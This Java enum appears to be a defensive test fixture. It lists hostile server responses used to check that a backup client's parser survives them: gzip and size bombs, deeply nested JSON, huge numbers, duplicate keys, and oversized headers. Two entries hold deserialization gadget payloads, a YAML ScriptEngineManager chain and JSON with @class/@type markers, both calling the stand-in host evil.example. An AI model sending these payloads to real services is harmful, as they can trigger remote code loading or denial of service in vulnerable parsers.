package dev.hsmbackup.security;

import java.util.Locale;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/** Answers that cost a careless reader its memory, its stack or its judgement. */
enum HostileAnswer {
    GZIP_BOMB("{\"type\": \"gzip-bomb\", \"bytes\": 67108864}"),
    GIGABYTE("{\"type\": \"huge\", \"bytes\": 67108864}"),
    ARRAYS(body("[".repeat(100_000))),
    CLOSED_ARRAYS(body("[".repeat(10_000) + "]".repeat(10_000))),
    OBJECTS(body("{\"jobId\": \"" + "a".repeat(32) + "\", \"status\": \"Succeeded\", \"x\": " + "{\"a\":".repeat(10_000)
            + "1" + "}".repeat(10_000) + "}")),
    DEEP_ERROR(body("{\"error\": " + "{\"innererror\":".repeat(5_000) + "1" + "}".repeat(5_000) + "}")),
    HUGE_EXPONENT(body("{\"status\": \"InProgress\", \"startTime\": 1e400000000, \"endTime\": -1E-400000000,"
            + " \"expires_in\": 1e400000000}")),
    MANY_DIGITS(body("{\"status\": \"InProgress\", \"startTime\": " + "9".repeat(100_000) + ", \"expires_in\": "
            + "9".repeat(100_000) + "}")),
    DUPLICATES(body("{\"jobId\": \"" + "a".repeat(32) + "\", \"jobId\": \"" + "b".repeat(32)
            + "\", \"status\": \"Succeeded\", \"status\": \"Failed\", \"error\": {}, \"error\": null}")),
    TRAILING(body("{\"jobId\": \"" + "a".repeat(32) + "\"} {\"jobId\": \"" + "b".repeat(32) + "\"}")),
    YAML(body("a: &a [x, x]\nb: &b [*a, *a]\nstatus: Succeeded\njobId: " + "a".repeat(32)
            + "\nc: !!javax.script.ScriptEngineManager [!!java.net.URL [\"https://evil.example\"]]\n")),
    TYPES(body("{\"@class\": \"javax.naming.InitialContext\", \"@type\": \"java.net.URL\", \"status\":"
            + " [\"java.net.URL\", \"https://evil.example\"], \"jobId\": {\"@class\": \"java.net.URL\"},"
            + " \"access_token\": [1], \"expires_in\": {}}")),
    KEYS(body(
            IntStream.range(0, 20_000).mapToObj(i -> "\"k" + i + "\": 1").collect(Collectors.joining(",", "{", "}")))),
    HEADERS("{\"type\": \"status\", \"status\": 202, \"body\": \"{}\", \"headers\": {"
            + IntStream.range(0, 2_000)
                    .mapToObj(i -> "\"X-" + i + "\": \"" + "y".repeat(400) + "\"")
                    .collect(Collectors.joining(","))
            + "}}"),
    LONG_HEADERS("{\"type\": \"status\", \"status\": 202, \"body\": \"{}\", \"headers\": {\"Retry-After\": \""
            + "9".repeat(100_000) + "\", \"Azure-AsyncOperation\": \"https://" + "a/".repeat(50_000) + "\"}}");

    private final String action;

    HostileAnswer(String action) {
        this.action = action;
    }

    /** The fault's action at the simulator. */
    String action() {
        return action;
    }

    String word() {
        return name().toLowerCase(Locale.ROOT).replace('_', '-');
    }

    private static String body(String body) {
        return "{\"type\": \"status\", \"status\": 202, \"headers\": {\"Content-Type\": \"application/json\"}, \"body\": "
                + HostileText.quote(body) + "}";
    }
}
